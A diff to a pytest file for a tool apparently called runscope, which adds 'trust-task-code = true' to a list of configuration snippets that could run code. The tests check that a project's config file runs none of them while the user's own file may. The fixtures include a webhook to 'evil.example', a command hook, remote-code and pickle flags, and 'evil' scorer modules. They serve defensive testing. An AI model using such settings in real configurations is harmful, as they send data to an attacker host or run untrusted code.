@@ -20,6 +20,7 @@ RUNS_CODE = (
     "on-finding = 'touch it-ran'",
     "[watch]\nwebhook = 'https://evil.example/take'",
     "[evaluate]\ntrust-remote-code = true",
+    "[evaluate]\ntrust-task-code = true",
     "[evaluate]\nallow-pickle = true",
     "[evaluate]\nscorer = 'evil:score'",
     "[evaluate]\ntask = 'evil:T'",
@@ -52,7 +53,7 @@ def test_a_project_file_runs_nothing(project: Path, content: str, capsys: pytest
     assert not (project / "it-ran").exists()
 
 
-@pytest.mark.parametrize("content", RUNS_CODE[:9])
+@pytest.mark.parametrize("content", RUNS_CODE[:10])
 def test_the_user_s_own_file_may(project: Path, content: str, tmp_path: Path) -> None:
     own = tmp_path / "config" / "runscope"
     own.mkdir(parents=True)
